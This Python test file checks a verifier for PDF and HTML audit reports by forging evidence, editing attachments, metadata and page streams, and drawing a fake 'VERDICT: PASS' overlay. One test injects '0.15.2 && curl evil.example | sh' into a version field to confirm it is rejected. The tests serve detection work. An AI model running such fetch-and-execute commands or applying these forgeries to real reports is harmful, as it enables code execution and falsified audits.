"""verify_report: a good report verifies and says what was proven; every attack and every broken
file gets a verdict (verified 0, altered 1, cannot verify 2), never a traceback."""

from __future__ import annotations

import dataclasses
import datetime as dt
import json
import shutil
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from explain.errors import ExplainError
from explain.report._evidence import canonical_json, sha256_hex
from explain.report._renderer import PDF_LIBRARIES, running

from ._sample import TIMESTAMP, sample_evidence

pytest.importorskip("typst")
pikepdf = pytest.importorskip("pikepdf")
pypdf = pytest.importorskip("pypdf")

from explain.report import _html, _pdf  # noqa: E402  (after the optional imports are known)
from explain.report._verify import EXIT_CODES, VerifyResult, verify_report  # noqa: E402

_REAL_RENDER = _pdf.render_pdf_bytes
ALL = ["opens", "report", "attachment", "canonical", "cover_hash", "metadata_hash", "renderer", "rerender", "signature"]
_RENDERED: dict[tuple[bytes, str], bytes] = {}


@pytest.fixture(autouse=True)
def _render_once(monkeypatch):
    """verify renders the evidence again; the same evidence renders to the same bytes, so render it once."""

    def cached(evidence, *, timestamp):
        key = (canonical_json(evidence), timestamp.isoformat())
        if key not in _RENDERED:
            _RENDERED[key] = _REAL_RENDER(evidence, timestamp=timestamp)
        return _RENDERED[key]

    monkeypatch.setattr(_pdf, "render_pdf_bytes", cached)


@pytest.fixture(scope="module")
def evidence():
    return sample_evidence()


@pytest.fixture(scope="module")
def pinned():
    """Evidence as explain.audit writes it: it records every version the PDF depends on."""
    ev = sample_evidence()
    ev["provenance"]["versions"].update(running(PDF_LIBRARIES))
    return ev


@pytest.fixture(scope="module")
def good(evidence, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("verify") / "good.pdf"
    _pdf.render_pdf(evidence, path, timestamp=TIMESTAMP)
    return path


@pytest.fixture(scope="module")
def good_pinned(pinned, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("verify") / "pinned.pdf"
    _pdf.render_pdf(pinned, path, timestamp=TIMESTAMP)
    return path


def _copy(good: Path, tmp_path: Path, name: str = "copy.pdf") -> Path:
    return Path(shutil.copy(good, tmp_path / name))


def _status(result: VerifyResult) -> dict[str, bool | None]:
    return {c.name: c.passed for c in result.checks}


def _detail(result: VerifyResult, name: str) -> str:
    return next(c.detail for c in result.checks if c.name == name)


def _replace_attachment(path: Path, data: bytes) -> None:
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        pdf.Root.AF[0].EF.F.write(data)
        pdf.save(path)


def _set_keywords(path: Path, change) -> None:
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        words = [w.strip() for w in str(pdf.docinfo["/Keywords"]).split(",")]
        pdf.docinfo["/Keywords"] = ", ".join(w for w in map(change, words) if w is not None)
        pdf.save(path)


def _tampered_view_pdf(evidence, path: Path, monkeypatch) -> None:
    """The evidence rendered with the impact ratio on the page changed (0.72 -> 0.92)."""
    real = _pdf.build_view

    def tampered(ev):
        view = real(ev)
        table = next(b for s in view["sections"] for b in s["blocks"] if b.get("id") == "fairness.groups")
        table["rows"][0][3] = "0.92"
        return view

    with monkeypatch.context() as patch:
        patch.setattr(_pdf, "build_view", tampered)
        patch.setattr(_pdf, "render_pdf_bytes", _REAL_RENDER)  # not through the cache of genuine renders
        _pdf.render_pdf(evidence, path, timestamp=TIMESTAMP)


# --------------------------------------------------------------------------- what is proven


def test_a_good_report_is_consistent_and_says_it_is_unsigned(good, evidence):
    result = verify_report(good)
    assert result.verdict == "verified" and result.ok and result.exit_code == 0, result.checks
    assert _status(result) == dict.fromkeys(ALL, True)
    assert result.summary.startswith("consistent, unsigned: the pages show exactly the attached evidence")
    assert "Nothing in the file proves who made it" in result.summary
    assert result.evidence == json.loads(canonical_json(evidence))
    assert result.evidence_sha256 == sha256_hex(canonical_json(evidence))
    assert "identical bytes" in _detail(result, "rerender")
    assert result.failed() == [] and result.signatures == ()
    assert result.checks[0] == ("opens", True, "10 pages")
    assert EXIT_CODES == {"verified": 0, "altered": 1, "cannot_verify": 2}
    with pytest.raises(dataclasses.FrozenInstanceError):
        result.verdict = "altered"  # type: ignore[misc]


def test_rewritten_evidence_rendered_again_is_consistent_but_not_authentic(good, evidence, tmp_path):
    # The attack: write evidence with verdict "pass" and render it with the library. Nothing in an
    # unsigned file can tell that from the original; verify says exactly that, and the two ways to
    # prove more (a hash recorded elsewhere, a signature) reject the forgery.
    forged = json.loads(canonical_json(evidence))
    forged["report"]["verdict"] = "pass"
    path = tmp_path / "forged.pdf"
    _pdf.render_pdf(forged, path, timestamp=TIMESTAMP)
    result = verify_report(path)
    assert result.verdict == "verified" and result.summary.startswith("consistent, unsigned")
    original = sha256_hex(canonical_json(evidence))
    recorded = verify_report(path, evidence_sha256=original)
    assert recorded.verdict == "altered" and _status(recorded)["expected_sha256"] is False
    assert f"not {original}" in _detail(recorded, "expected_sha256")
    assert verify_report(good, evidence_sha256=original.upper()).summary.startswith("consistent, and the evidence")
    unsigned = verify_report(path, require_signature=True)
    assert unsigned.verdict == "altered" and "not signed" in _detail(unsigned, "signature")


# --------------------------------------------------------------------------- tampering


def test_an_edited_attachment_no_longer_matches_the_cover(good, tmp_path, evidence):
    path = _copy(good, tmp_path)
    edited = json.loads(canonical_json(evidence))
    edited["findings"][5]["observed"] = 0.82  # the failing impact ratio, quietly improved
    _replace_attachment(path, canonical_json(edited))
    result = verify_report(path)
    assert result.verdict == "altered" and result.exit_code == 1
    status = _status(result)
    assert status["attachment"] and status["canonical"] and status["renderer"]
    assert status["cover_hash"] is False and status["metadata_hash"] is False and status["rerender"] is False
    assert f"the evidence hashes to {sha256_hex(canonical_json(edited))}" in _detail(result, "cover_hash")
    assert "modified after generation" in _detail(result, "rerender")


def test_a_re_encoded_attachment_is_not_canonical(good, tmp_path, evidence):
    path = _copy(good, tmp_path)
    _replace_attachment(path, json.dumps(json.loads(canonical_json(evidence)), indent=2).encode())
    result = verify_report(path)
    assert result.verdict == "altered" and _status(result)["canonical"] is False
    assert "not canonical" in _detail(result, "canonical")
    assert _status(result)["rerender"] is None and "not run" in _detail(result, "rerender")


def test_an_edited_visible_number_is_caught_by_rendering_again(evidence, tmp_path, monkeypatch):
    path = tmp_path / "tampered.pdf"
    _tampered_view_pdf(evidence, path, monkeypatch)
    result = verify_report(path)
    status = _status(result)
    assert result.verdict == "altered"
    assert status["cover_hash"] and status["metadata_hash"] and status["renderer"] and status["rerender"] is False
    detail = _detail(result, "rerender")
    assert "modified after generation" in detail and "/Contents" in detail
    page = int(detail.split("page(s) ")[1].split(" ")[0])
    assert "0.92" in pypdf.PdfReader(path).pages[page - 1].extract_text()


@pytest.mark.parametrize(
    "change, verdict, words",
    [
        (lambda w: None if w.startswith("generator:") else w, "altered", "names no generator"),
        (lambda w: "generator:explain-0.1.0" if w.startswith("generator:") else w, "altered", "was changed"),
        (lambda w: "generator:explain-9.9.9+typst-9.9+matplotlib-9.9" if w.startswith("generator:") else w,
         "altered", "was changed"),
    ],
)  # fmt: skip
def test_a_page_edit_with_rewritten_generator_metadata_is_rejected(
    pinned, tmp_path, monkeypatch, change, verdict, words
):
    # The attack: edit the page, then change or delete the unsigned generator keyword so
    # the check that renders the page again would be skipped. The evidence (hashed) records the
    # versions, so the rewritten keyword contradicts it, and the page is rendered again anyway.
    path = tmp_path / "tampered.pdf"
    _tampered_view_pdf(pinned, path, monkeypatch)
    _set_keywords(path, change)
    result = verify_report(path)
    assert result.verdict == verdict and result.exit_code == 1, result.checks
    assert words in _detail(result, "renderer")
    assert "VERIFIED" not in result.summary


def test_a_generator_naming_another_typst_than_the_evidence_is_altered(good, tmp_path):
    # The evidence (hashed) records typst's version: a generator claiming another one is a changed
    # file (exit 1), not "another renderer" (exit 2), and the attacker's text is never offered as a
    # command to run.
    path = _copy(good, tmp_path)
    _set_keywords(path, lambda w: w.replace("+typst-", "+typst-9.") if w.startswith("generator:") else w)
    result = verify_report(path)
    assert result.verdict == "altered" and result.exit_code == 1, result.checks
    assert _status(result)["renderer"] is False and "the generator was changed" in _detail(result, "renderer")
    assert "pip install" not in _detail(result, "renderer")


def test_evidence_without_the_renderer_versions_is_not_rendered_and_not_verified(evidence, tmp_path, monkeypatch):
    # Evidence that does not record typst could only be checked with a version read from the
    # unsigned metadata: the exporter refuses to write such a PDF, and verify cannot verify one.
    unpinned = json.loads(canonical_json(evidence))
    del unpinned["provenance"]["versions"]["typst"]
    with pytest.raises(ExplainError, match="does not record which version of typst"):
        _pdf.render_pdf(unpinned, tmp_path / "refused.pdf", timestamp=TIMESTAMP)
    assert not (tmp_path / "refused.pdf").exists()
    monkeypatch.setattr(_pdf, "check_recorded", lambda *a, **k: None)
    _pdf.render_pdf(unpinned, tmp_path / "unpinned.pdf", timestamp=TIMESTAMP)
    result = verify_report(tmp_path / "unpinned.pdf")
    assert result.verdict == "cannot_verify" and result.exit_code == 2, result.checks
    assert _status(result)["renderer"] is None and "does not record which version of typst" in _detail(
        result, "renderer"
    )
    assert _status(result)["rerender"] is None


def test_evidence_recording_a_non_version_is_altered_and_never_echoed_as_a_command(evidence, tmp_path, monkeypatch):
    forged = json.loads(canonical_json(evidence))
    forged["provenance"]["versions"]["typst"] = "0.15.2 && curl evil.example | sh"
    monkeypatch.setattr(_pdf, "check_recorded", lambda *a, **k: None)
    _pdf.render_pdf(forged, tmp_path / "forged.pdf", timestamp=TIMESTAMP)
    result = verify_report(tmp_path / "forged.pdf")
    assert result.verdict == "altered" and "not a version" in _detail(result, "renderer")
    assert "pip install" not in result.summary + _detail(result, "renderer")


def test_another_installed_version_is_cannot_verify_not_altered(good, monkeypatch):
    import explain.report._verify as verify_module

    monkeypatch.setattr(verify_module, "running", lambda libs: dict.fromkeys(libs, "0.0.1"))
    result = verify_report(good)
    assert result.verdict == "cannot_verify" and "this is explain-0.0.1" in _detail(result, "renderer")


def test_an_edited_content_stream_is_named(good_pinned, tmp_path):
    path = _copy(good_pinned, tmp_path)
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        page = pdf.pages[0]
        page.contents_add(pdf.make_stream(b"q 1 0 0 RG 0 0 m 500 500 l S Q"), prepend=False)
        pdf.save(path)
    result = verify_report(path)
    assert result.verdict == "altered"
    assert _detail(result, "rerender").startswith("modified after generation: page 1 /Contents")


# --------------------------------------------------------------------------- broken files: a verdict, never a traceback


def test_a_flipped_bit_in_a_page_stream_gives_a_verdict(good, tmp_path):
    data = bytearray(good.read_bytes())
    with pikepdf.open(good) as pdf:
        number = pdf.pages[0].Contents.objgen[0]
    start = data.index(b"stream", data.index(f"\n{number} 0 obj".encode()))
    data[start + 40] ^= 0x04
    path = tmp_path / "flipped.pdf"
    path.write_bytes(bytes(data))
    result = verify_report(path)
    assert result.verdict == "altered" and _status(result)["rerender"] is False
    assert "page 1" in _detail(result, "rerender")


def test_an_odd_length_embedded_files_array_is_altered(good, tmp_path):
    path = _copy(good, tmp_path)
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        pdf.Root.Names.EmbeddedFiles.Names.append(pikepdf.String("orphan.json"))
        pdf.save(path)
    result = verify_report(path)
    assert result.verdict == "altered" and "odd length (3)" in _detail(result, "attachment")


def test_a_file_spec_without_ef_is_altered(good, tmp_path):
    path = _copy(good, tmp_path)
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        del pdf.Root.Names.EmbeddedFiles.Names[1].EF
        pdf.save(path)
    result = verify_report(path)
    assert result.verdict == "altered" and "has no /EF /F" in _detail(result, "attachment")


def test_a_missing_attachment_fails_and_the_rest_is_not_run(good, tmp_path):
    path = _copy(good, tmp_path)
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        del pdf.attachments["evidence.json"]
        pdf.save(path)
    result = verify_report(path)
    status = _status(result)
    assert result.verdict == "altered" and (status["opens"], status["attachment"]) == (True, False)
    assert [status[n] for n in ("canonical", "cover_hash", "metadata_hash", "renderer", "rerender")] == [None] * 5
    assert result.evidence is None


@pytest.mark.parametrize(
    "content, words",
    [
        (b"%PDF-1.7\nnot really", "cannot be read as a PDF"),
        (b"", "neither a PDF nor an HTML page"),
        (b"\x00\x01binary", "neither a PDF nor an HTML page"),
        (b"<!DOCTYPE html><html><body>hello</body></html>", "not an explain audit report"),
        (b"<html>\xff\xfe</html>", "not UTF-8"),
    ],
)
def test_files_that_are_not_reports_cannot_be_verified(tmp_path, content, words):
    path = tmp_path / "x.pdf"
    path.write_bytes(content)
    result = verify_report(path)
    assert result.verdict == "cannot_verify" and result.exit_code == 2 and words in result.summary


def test_a_pdf_that_is_not_a_report_and_a_missing_file(tmp_path):
    path = tmp_path / "other.pdf"
    writer = pypdf.PdfWriter()
    writer.add_blank_page(100, 100)
    writer.write(path)
    result = verify_report(path)
    assert result.verdict == "cannot_verify" and "not an explain audit report" in result.summary
    assert verify_report(tmp_path / "none.pdf").verdict == "cannot_verify"


@settings(max_examples=6, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
@given(data=st.data())
def test_fuzz_mutated_reports_always_get_a_verdict(good, data):
    raw = bytearray(good.read_bytes())
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(raw) - 1))
        kind = data.draw(st.sampled_from(["flip", "delete", "insert", "truncate"]))
        if kind == "flip":
            raw[at] ^= 1 << data.draw(st.integers(0, 7))
        elif kind == "delete":
            del raw[at : at + data.draw(st.integers(1, 64))]
        elif kind == "insert":
            raw[at:at] = data.draw(st.binary(min_size=1, max_size=16))
        else:
            del raw[at:]
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "fuzz.pdf"
        path.write_bytes(bytes(raw))
        try:
            result = verify_report(path)
        except ExplainError:
            return
    assert result.verdict in EXIT_CODES and isinstance(result.summary, str)
    assert result.verdict != "verified" or bytes(raw) == good.read_bytes() or _status(result)["rerender"]


# --------------------------------------------------------------------------- re-saved and updated


def test_a_re_saved_report_still_verifies(good, tmp_path):
    path = tmp_path / "resaved.pdf"
    with pikepdf.open(good) as pdf:
        pdf.save(path, object_stream_mode=pikepdf.ObjectStreamMode.generate, recompress_flate=True)
    assert path.read_bytes() != good.read_bytes()
    result = verify_report(path)
    assert result.verdict == "verified", result.checks
    assert "re-saved: other file layout, same objects" in _detail(result, "rerender")


def test_an_incremental_update_without_change_is_named_precisely_and_one_with_a_note_is_modified(good, tmp_path):
    pytest.importorskip("pyhanko")
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    same = tmp_path / "same.pdf"
    with good.open("rb") as f, same.open("wb") as out:
        update = IncrementalPdfFileWriter(f)
        update.update_root()  # the catalog written again, unchanged; pyHanko sets its producer
        update.write(out)
    assert same.read_bytes().startswith(good.read_bytes()) and same.stat().st_size > good.stat().st_size
    result = verify_report(same)
    # an unsigned file names its producer as anyone wishes: a new one is reported, precisely
    assert result.verdict == "altered" and "/Producer added" in _detail(result, "rerender"), result.checks
    dated = tmp_path / "dated.pdf"
    writer = pypdf.PdfWriter(good, incremental=True)
    writer.add_metadata({"/ModDate": "D:20270101000000Z"})
    writer.write(dated)
    result = verify_report(dated)  # a modification date alone states nothing: still the same document
    assert result.verdict == "verified" and "incremental updates" in _detail(result, "rerender"), result.checks
    noted = tmp_path / "noted.pdf"
    writer = pypdf.PdfWriter(good, incremental=True)
    from pypdf.annotations import Text

    writer.add_annotation(2, Text(text="looks fine to me", rect=(50, 550, 200, 650)))
    writer.write(noted)
    result = verify_report(noted)
    assert result.verdict == "altered"
    assert _detail(result, "rerender").startswith("modified after generation: page 3 /Annots")


@pytest.mark.parametrize(
    "edit, words",
    [
        (lambda w: w.add_metadata({"/Producer": "APPROVED by the Model Risk Committee"}), "/Producer added"),
        (lambda w: w._root_object.__setitem__(pypdf.generic.NameObject("/DSS"), pypdf.generic.DictionaryObject()),
         "/DSS added"),
        (lambda w: w.encrypt(user_password="", owner_password="owner", permissions_flag=0), "encryption dictionary"),
    ],
)  # fmt: skip
def test_what_only_signing_may_add_is_a_change_in_an_unsigned_file(good, tmp_path, edit, words):
    path = tmp_path / "edited.pdf"
    writer = pypdf.PdfWriter(good, incremental=not words.startswith("encryption"))
    edit(writer)
    writer.write(path)
    result = verify_report(path)
    assert result.verdict == "altered" and words in _detail(result, "rerender"), result.checks


def _set_xmp(path: Path, change) -> None:
    """Replace the catalog's XMP packet by ``change(packet)``, leaving everything else alone."""
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        packet = pdf.Root.Metadata.read_bytes()
        pdf.Root.Metadata.write(change(packet))
        pdf.save(path, fix_metadata_version=False)  # pikepdf would otherwise write the packet again


def test_an_xmp_only_title_change_is_altered(good, tmp_path):
    # The title a viewer shows comes from the XMP packet: a "PASSED" title written there, and
    # nowhere else, is a changed file, not "the XMP metadata was updated".
    path = _copy(good, tmp_path)
    title = b'<rdf:li xml:lang="x-default">'
    _set_xmp(path, lambda x: x.replace(title, title + b"PASSED: ", 1))
    result = verify_report(path)
    assert result.verdict == "altered" and result.exit_code == 1, result.checks
    assert "the XMP metadata's dc:title changed" in _detail(result, "rerender")


def test_xmp_written_again_in_another_rdf_form_verifies(good, tmp_path):
    # pyHanko writes the packet again with properties as attributes; the same statements in
    # another spelling are the same metadata
    path = _copy(good, tmp_path)

    def respell(packet: bytes) -> bytes:
        producer = b"<xmp:CreatorTool>"
        start = packet.index(producer)
        end = packet.index(b"</xmp:CreatorTool>")
        value = packet[start + len(producer) : end]
        without = packet[:start] + packet[end + len(b"</xmp:CreatorTool>") :]
        return without.replace(
            b'<rdf:Description rdf:about=""', b'<rdf:Description xmp:CreatorTool="' + value + b'" rdf:about=""', 1
        )

    _set_xmp(path, respell)
    result = verify_report(path)
    assert result.verdict == "verified", result.checks
    assert "the XMP metadata was written again, stating the same" in _detail(result, "rerender")


@pytest.mark.parametrize(
    "change, words",
    [
        (lambda x: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "PASSED">]>' + x, "declares a DTD"),
        (lambda x: x[: len(x) // 2], "is not XML"),
        (lambda x: x.replace(b"<xmp:ModifyDate>", b"<xmp:ModifyDate>2030", 1), None),
    ],
)  # fmt: skip
def test_hostile_or_broken_xmp_gets_a_verdict(good, tmp_path, change, words):
    path = _copy(good, tmp_path)
    _set_xmp(path, change)
    result = verify_report(path)
    if words is None:  # only the modification date: what signing tools update
        assert result.verdict == "verified" and "xmp:ModifyDate was set" in _detail(result, "rerender")
    else:
        assert result.verdict == "altered" and words in _detail(result, "rerender"), result.checks


# --------------------------------------------------------------------------- signatures


def _self_signed(directory: Path, name: str) -> tuple[Path, Path]:
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name(
        [x509.NameAttribute(NameOID.COMMON_NAME, name), x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Bank")]
    )
    start = dt.datetime(2025, 1, 1, tzinfo=dt.timezone.utc)
    usage = x509.KeyUsage(True, True, False, False, False, True, True, False, False)
    cert = (
        x509.CertificateBuilder().subject_name(subject).issuer_name(subject).public_key(key.public_key())
        .serial_number(x509.random_serial_number()).not_valid_before(start)
        .not_valid_after(start + dt.timedelta(days=3650))
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .add_extension(usage, critical=True)
        .sign(key, hashes.SHA256())
    )  # fmt: skip
    key_path, cert_path = directory / f"{name}.key", directory / f"{name}.pem"
    key_path.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                           serialization.NoEncryption()))  # fmt: skip
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    return key_path, cert_path


@pytest.fixture(scope="module")
def signed(good, tmp_path_factory):
    pytest.importorskip("pyhanko")
    from explain.report._signature import sign_pdf

    d = tmp_path_factory.mktemp("signed")
    key, cert = _self_signed(d, "Jane Validator")
    path = sign_pdf(good, d / "signed.pdf", key=key, cert=cert, reason="Independent validator: approved")
    return path, cert, _self_signed(d, "Mallory")[1]


def test_a_pyhanko_signed_report_verifies_and_names_its_signer(signed, good):
    path, cert, stranger = signed
    assert path.read_bytes().startswith(good.read_bytes())  # an incremental update: the generated bytes stay
    result = verify_report(path)
    assert result.verdict == "verified", result.checks
    assert result.summary.startswith("signed by Organization: Bank, Common Name: Jane Validator")
    assert "Pass --trust CERT" in result.summary
    (signature,) = result.signatures
    assert signature.ok and signature.trusted is None and "Jane Validator" in signature.signer
    assert "signature fields were added" in _detail(result, "rerender")
    anchored = verify_report(path, trust=[cert])
    assert anchored.verdict == "verified" and anchored.summary.startswith("authentic: signed by")
    assert anchored.signatures[0].trusted is True
    other = verify_report(path, trust=[stranger])
    assert other.verdict == "altered" and "does not chain to a trust anchor" in _detail(other, "signature")


def test_a_change_after_signing_is_rejected(signed, tmp_path):
    path = signed[0]
    edited = tmp_path / "edited.pdf"
    writer = pypdf.PdfWriter(path, incremental=True)
    writer.add_metadata({"/Subject": "approved"})
    page = writer.pages[0]
    page.merge_transformed_page(writer.pages[1], pypdf.Transformation().translate(0, 0))
    writer.write(edited)
    result = verify_report(edited)
    assert result.verdict == "altered", result.checks
    assert _status(result)["rerender"] is False and _status(result)["signature"] is False
    assert "changed after signing" in _detail(result, "signature")
    resaved = tmp_path / "resaved.pdf"
    with pikepdf.open(path) as pdf:
        pdf.save(resaved)  # rewrites every byte: the signature no longer covers the file
    assert verify_report(resaved).verdict == "altered"


def test_a_producer_written_after_signing_is_rejected_even_where_pyhanko_allows_it(signed, tmp_path):
    # pyHanko's own analysis lets a later revision rewrite the document info; the report's
    # verify does not: after the last signature only signatures and validation data may follow
    edited = tmp_path / "producer.pdf"
    writer = pypdf.PdfWriter(signed[0], incremental=True)
    writer.add_metadata({"/Producer": "APPROVED by CRO"})
    writer.write(edited)
    result = verify_report(edited)
    assert result.verdict == "altered", result.checks
    assert "modified after the last signature: document info /Producer" in _detail(result, "rerender")


def test_a_visible_pyhanko_signature_verifies_and_is_named(good, tmp_path):
    pytest.importorskip("pyhanko")
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import fields, signers

    key, cert = _self_signed(tmp_path, "Visible Signer")
    signer = signers.SimpleSigner.load(str(key), str(cert))
    out = tmp_path / "visible.pdf"
    with good.open("rb") as f, out.open("wb") as dest:
        writer = IncrementalPdfFileWriter(f)
        spec = fields.SigFieldSpec("Approval", on_page=0, box=(50, 50, 250, 110))
        signers.sign_pdf(writer, signers.PdfSignatureMetadata(field_name="Approval"), signer=signer,
                         new_field_spec=spec, output=dest)  # fmt: skip
    result = verify_report(out)
    assert result.verdict == "verified", result.checks
    assert "visible signature appearance" in _detail(result, "rerender")
    assert "visible signature appearance its signer drew" in result.summary


def test_a_signed_report_without_pyhanko_cannot_be_verified(signed, monkeypatch):
    import explain.report._signature as signature_module
    from explain.errors import MissingDependencyError

    def missing(*args, **kwargs):
        raise MissingDependencyError("Checking the signatures needs pyhanko: pip install 'explain[sign]'")

    monkeypatch.setattr(signature_module, "read_signatures", missing)
    result = verify_report(signed[0])
    assert result.verdict == "cannot_verify" and "explain[sign]" in _detail(result, "signature")


# --------------------------------------------------------------------------- HTML


@pytest.fixture(scope="module")
def page(evidence, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("html") / "audit.html"
    _html.render_html(evidence, path)
    return path


def test_a_good_html_page_verifies(page, evidence):
    result = verify_report(page)
    assert result.verdict == "verified", result.checks
    assert result.evidence_sha256 == sha256_hex(canonical_json(evidence))
    # a page cannot be signed: the verdict says what can be done instead, never "explain sign"
    assert result.summary.startswith("consistent:") and "cannot carry a signature" in result.summary
    assert "explain sign" not in result.summary
    assert verify_report(page, require_signature=True).verdict == "altered"


def test_an_edited_html_page_or_its_evidence_is_altered(page, tmp_path):
    text = page.read_text(encoding="utf-8")
    shown = tmp_path / "shown.html"
    shown.write_text(text.replace("0.72", "0.92", 1), encoding="utf-8")
    result = verify_report(shown)
    assert result.verdict == "altered" and _status(result)["cover_hash"]
    assert "differs from the page the evidence renders to" in _detail(result, "rerender")
    embedded = tmp_path / "embedded.html"
    embedded.write_text(text.replace('"verdict":"fail"', '"verdict":"pass"', 1), encoding="utf-8")
    result = verify_report(embedded)
    assert result.verdict == "altered" and _status(result)["cover_hash"] is False
    generator = tmp_path / "generator.html"
    generator.write_text(text.replace('<meta name="generator" content="explain-', '<meta name="generator" '
                                      'content="explain-9'), encoding="utf-8")  # fmt: skip
    assert verify_report(generator).verdict == "altered"


def test_verify_reads_a_report_through_io_errors_too(good, tmp_path, monkeypatch):
    def broken(self):
        raise OSError(5, "Input/output error")

    monkeypatch.setattr(Path, "read_bytes", broken)
    result = verify_report(good)
    assert result.verdict == "cannot_verify" and "Input/output error" in result.summary


# --------------------------------------------------------------------------- the command line


def test_cli_prints_each_check_and_a_verdict_line_with_its_exit_code(good, page, tmp_path, capsys):
    from explain.cli import main

    assert main(["verify", str(good)]) == 0
    out = capsys.readouterr().out
    assert "[ok  ] rerender: " in out and "VERIFIED (exit 0): consistent, unsigned" in out
    assert main(["verify", str(page)]) == 0
    bad = _copy(good, tmp_path)
    _replace_attachment(bad, b'{"schema":"explain.audit"}')
    assert main(["verify", str(bad)]) == 1
    out = capsys.readouterr().out
    assert "[FAIL] cover_hash" in out and "NOT VERIFIED (exit 1): altered (cover_hash)" in out
    junk = tmp_path / "junk.pdf"
    junk.write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 8)
    assert main(["verify", str(junk)]) == 2
    assert "CANNOT VERIFY (exit 2): cannot verify: the file cannot be read as a PDF" in capsys.readouterr().out
    assert main(["verify", str(good), "--evidence-sha256", "abc"]) == 2
    assert "64 hex digits" in capsys.readouterr().err
    assert main(["verify", str(good), "--require-signature"]) == 1


def test_cli_sign_then_verify_with_a_trust_anchor(good, tmp_path, capsys):
    pytest.importorskip("pyhanko")
    from explain.cli import main

    key, cert = _self_signed(tmp_path, "Ann Approver")
    out = tmp_path / "signed.pdf"
    args = ["sign", str(good), "--key", str(key), "--cert", str(cert), "--out", str(out), "--field", "Approver"]
    assert main(args) == 0
    assert f"Check it with: explain verify {out}" in capsys.readouterr().out
    assert main(["verify", str(out), "--trust", str(cert)]) == 0
    assert "VERIFIED (exit 0): authentic: signed by Organization: Bank, Common Name: Ann Approver" in (
        capsys.readouterr().out
    )
    assert main(["sign", str(good), "--key", str(tmp_path / "none.key"), "--cert", str(cert), "--out", str(out)]) == 2
    assert "none.key' does not exist" in capsys.readouterr().err
    assert main(["sign", str(good), "--cert", str(cert), "--out", str(out)]) == 2
    assert main(["sign", str(out), "--key", str(key), "--cert", str(cert), "--out", str(out)]) == 2


def _overlay(source: Path, target: Path) -> None:
    """An empty signature field whose visible widget draws a forged verdict over page 1."""
    from pypdf.generic import (
        ArrayObject,
        DecodedStreamObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        NumberObject,
        TextStringObject,
    )

    writer = pypdf.PdfWriter(source, incremental=True)
    page = writer.pages[0]
    stamp = DecodedStreamObject()
    stamp.set_data(b"BT /Helv 28 Tf 10 20 Td (VERDICT: PASS) Tj ET")
    box = ArrayObject([FloatObject(0), FloatObject(0), FloatObject(400), FloatObject(60)])
    stamp.update({NameObject("/Type"): NameObject("/XObject"), NameObject("/Subtype"): NameObject("/Form"),
                  NameObject("/BBox"): box})  # fmt: skip
    widget = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Widget"),
        NameObject("/FT"): NameObject("/Sig"), NameObject("/T"): TextStringObject("Overlay"),
        NameObject("/F"): NumberObject(4), NameObject("/P"): page.indirect_reference,
        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (100, 650, 500, 710)]),
        NameObject("/AP"): DictionaryObject({NameObject("/N"): writer._add_object(stamp)}),
    })  # fmt: skip
    ref = writer._add_object(widget)
    annots = page.get("/Annots")
    page[NameObject("/Annots")] = ArrayObject([*(annots.get_object() if annots is not None else []), ref])
    root = writer._root_object
    if "/AcroForm" in root:
        root["/AcroForm"].get_object()["/Fields"].append(ref)
    else:
        root[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): ArrayObject([ref])})
    writer.write(target)


def test_a_visible_empty_signature_field_drawn_over_the_report_is_altered(good, signed, tmp_path):
    """An "approved" stamp in an unsigned signature widget is not what signing adds."""
    for name, source in (("unsigned", good), ("signed", signed[0])):
        target = tmp_path / f"overlay_{name}.pdf"
        _overlay(source, target)
        result = verify_report(target, trust=[signed[1]]) if name == "signed" else verify_report(target)
        assert result.verdict == "altered", (name, result.checks)
        assert "/Annots" in _detail(result, "rerender")


def test_an_attachment_missing_from_the_catalogs_af_says_only_what_is_wrong(good, tmp_path):
    path = _copy(good, tmp_path)
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        del pdf.Root.AF
        pdf.save(path)
    detail = _detail(verify_report(path), "attachment")
    assert detail == "relationship Data, but not listed in the catalog's /AF (an associated file must be)"
    path = _copy(good, tmp_path, "source.pdf")
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        pdf.Root.AF[0].AFRelationship = pikepdf.Name("/Source")
        pdf.save(path)
    detail = _detail(verify_report(path), "attachment")
    assert detail == "relationship Source, where an evidence file is Data (listed in the catalog's /AF)"


def test_a_directory_a_device_or_an_empty_file_is_named_for_what_it_is(tmp_path):
    (tmp_path / "empty.pdf").write_bytes(b"")
    cases = {tmp_path: "is a directory, not a report", tmp_path / "empty.pdf": "is an empty file (0 bytes)"}
    if Path("/dev/null").exists():
        cases[Path("/dev/null")] = "is a character device (not a regular file)"
    for path, words in cases.items():
        result = verify_report(path)
        assert result.verdict == "cannot_verify" and words in _detail(result, "opens"), (path, result.summary)
